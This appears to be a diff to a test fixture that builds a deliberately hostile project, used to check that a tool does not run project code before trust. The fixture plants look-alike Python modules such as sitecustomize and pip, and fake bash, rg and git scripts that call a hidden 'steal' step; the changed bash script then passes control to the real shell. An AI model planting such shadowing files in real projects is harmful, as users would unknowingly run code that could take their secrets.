@@ -1,4 +1,4 @@
-"""A project that would like to run code, to read secrets and to give orders before it is trusted."""
+"""A project that would like to run code and to give orders before anybody trusts it."""
 
 from __future__ import annotations
 
@@ -77,7 +77,8 @@ def hostile_project(folder: Path) -> HostileProject:
     # Names that Python would import, and programs that a search for one would find, from here.
     files |= {f"sub/{name}.py": code for name in ("msgspec", "pip", "sitecustomize", "readline")}
     files |= {f"sub/{name}/__init__.py": code for name in ("pi", "yaml12", "PIL")}
-    files |= {f"sub/bin/{name}": f"#!/bin/sh\n{steal}/{name}\n" for name in ("bash", "rg", "git")}
+    files |= {f"sub/bin/{name}": f"#!/bin/sh\n{steal}/{name}\n" for name in ("rg", "git")}
+    files["sub/bin/bash"] = f'#!/bin/sh\n{steal}/bash\nexec /bin/bash "$@"\n'
     files |= {f"sub/{name}": f"#!/bin/sh\n{steal}/here-{name}\n" for name in ("bash", "rg", "git")}
     for name, text in files.items():
         path = project.root / name
